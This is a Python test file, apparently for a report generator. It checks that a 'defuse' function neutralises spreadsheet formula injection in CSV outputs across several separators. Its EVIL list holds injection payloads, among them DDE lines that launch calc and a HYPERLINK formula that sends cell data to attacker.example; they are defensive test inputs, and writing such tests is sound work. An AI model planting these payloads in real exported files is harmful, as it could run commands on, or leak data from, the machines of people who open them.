import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from glue.formulas import defuse, is_formula
from tests.building.reports import RunBuilder, make_report

EVIL = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://attacker.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff201",
    # Sheets whose decimal mark is a comma part cells at semicolons.
    "drum;=1+1",
    "drum; @SUM(1)",
    "drum\t=1+1",
    'drum";=1+1;"',
]
SEPARATORS = [",", ";", "\t", "|"]
MARKS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def list_cells(text, separator):
    """Give the cells that a sheet makes of a file; quotes are sure to count for ,."""
    quotings = [csv.QUOTE_MINIMAL, *([csv.QUOTE_NONE] if separator != "," else [])]
    for quoting in quotings:
        file = io.StringIO(text, newline="")
        for row in csv.reader(file, delimiter=separator, quoting=quoting):
            yield from row


def is_active(cell):
    # A sign before digits is a number's.
    return cell.lstrip(" \u00a0").startswith(MARKS) and bool(
        cell.strip("+-0123456789.,")
    )


@pytest.mark.parametrize("text", EVIL, ids=ascii)
def test_formula_is_defused(text):
    assert is_formula(text)
    assert not is_formula(defuse(text))


@pytest.mark.parametrize("value", ["drum", "-1", "+2.5", "1-2", "a=b", "", 5, -1.5])
def test_what_is_no_formula_stays(value):
    assert defuse(value) == value


@pytest.mark.parametrize("separator", SEPARATORS)
@given(text=st.text(alphabet=[*MARKS, *SEPARATORS, *"a1\"' .\r\n\u00a0"]))
def test_no_cell_is_a_formula_however_it_is_parted(separator, text):
    file = io.StringIO()
    csv.writer(file, lineterminator="\n").writerow(["1", defuse(text), "2"])

    cells = list_cells(file.getvalue(), separator)

    assert [cell for cell in cells if is_active(cell)] == []


@pytest.fixture(scope="module")
def reported(tmp_path_factory):
    evil = [text for text in EVIL if text == text.strip() and "\r" not in text]
    return make_report(RunBuilder(items=tuple(evil)), tmp_path_factory.mktemp("run"))


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("name", ["items.csv", "leaderboard.csv"])
def test_file_for_people_has_no_formula(reported, name, separator):
    cells = list_cells(reported.text(name), separator)

    assert [cell for cell in cells if is_active(cell)] == []


def test_forecast_keeps_ids_for_programs(reported):
    ids = {row["item"] for row in reported.rows("forecast.csv")}

    assert "=1+1" in ids
    assert "drum;=1+1" in ids
